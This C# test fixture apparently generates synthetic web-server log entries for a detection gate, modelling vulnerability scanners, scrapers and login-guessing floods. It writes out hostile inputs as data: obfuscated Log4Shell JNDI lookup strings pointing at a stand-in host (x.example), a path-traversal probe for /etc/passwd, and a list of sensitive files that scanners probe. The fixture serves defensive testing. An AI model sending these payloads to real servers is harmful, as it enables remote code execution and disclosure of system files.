using System.Globalization;

namespace Throughline.Cli.Tests.Gate;

/// <summary>Attacks and scrapers under the names of browsers, each from an address of its own.</summary>
internal sealed class Attackers(SiteLog log)
{
    private static readonly string[] Scanned =
    [
        "/cgi-bin/test-cgi",
        "/phpmyadmin/",
        "/server-status",
        "/.htaccess",
        "/.htpasswd",
        "/info.php",
        "/admin.php",
        "/config.php.bak",
        "/web.config",
        "/WEB-INF/web.xml",
        "/cgi-bin/..%2f..%2fetc/passwd",
        "/trace.axd",
        "/jmx-console/",
        "/manager/html",
        "/axis2/",
        "/examples/servlets/",
        "/backup.sql",
        "/.DS_Store",
        "/.svn/entries",
        "/pma/",
        "/solr/admin/",
        "/wp-content/debug.log",
        "/readme.html",
        "/xmlrpc.php",
    ];

    private static readonly string[] LogIns =
    [
        "/login",
        "/wp-login.php",
        "/account/signin",
        "/users/sign_in",
        "/user/login",
        "/session",
        "/auth/login",
        "/Account/Login",
        "/api/v1/auth/login",
        "/customer/account/loginPost/",
    ];

    public void Everybody()
    {
        for (int i = 0; i < 5; i++)
        {
            Scan();
            LogForShell();
            Scrape("slow scraper", pages: 200, every: 30);
            Scrape("fast scraper", pages: 300, every: 0.4);
            Scrape("scraper of many names", pages: 300, every: 3, names: true);
        }
        foreach (string path in LogIns)
        foreach (int status in (int[])[401, 403, 422, 302])
            Guess(path, status);
        GuessFromEverywhere();
    }

    private Client Client() => new(log.Address(), log.Desktop());

    private double Time() => 20_000 + log.Random.NextDouble() * 40_000;

    private void Scan()
    {
        Client client = Client();
        double at = Time();
        foreach (string path in Scanned)
            log.Add(at += log.Random.NextDouble(), "scanner", client, "GET " + path, 404);
    }

    private void LogForShell()
    {
        string text = log.One(
            "${jndi:ldap://x.example/a}",
            "${jndi:${lower:l}dap://x.example/a}",
            "${${::-j}ndi:rmi://x/a}"
        );
        double at = Time();
        log.Add(at, "log4shell", Client(), "GET /?x=" + text, 200);
        log.Add(at, "log4shell", Client() with { Agent = text }, "GET /", 200);
    }

    private void Scrape(string actor, int pages, double every, bool names = false)
    {
        Client client = Client();
        double at = 20_000 + log.Random.NextDouble() * 10_000;
        for (int i = 0; i < pages; i++, at += every * (0.5 + log.Random.NextDouble()))
            log.Add(at, actor, names ? client with { Agent = log.Desktop() } : client, "GET " + log.Page(), 200);
    }

    private void Guess(string path, int status)
    {
        Client client = Client();
        string referrer = log.One("", SiteLog.Site + path);
        double at = Time();
        for (int i = 0; i < 60; i++, at += 1 + log.Random.NextDouble())
            log.Add(at, $"guesser {path} {status}", client, "POST " + path, status, referrer);
    }

    // Two each, from many addresses, by one program.
    private void GuessFromEverywhere()
    {
        const string Agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0";
        for (int i = 0; i < 300; i++)
        {
            Client client = new(log.Address(), Agent);
            log.Add(20_000 + i * 4, "guesser from everywhere", client, "POST /login", 401);
            log.Add(20_001 + i * 4, "guesser from everywhere", client, "POST /login", 401);
        }
    }
}
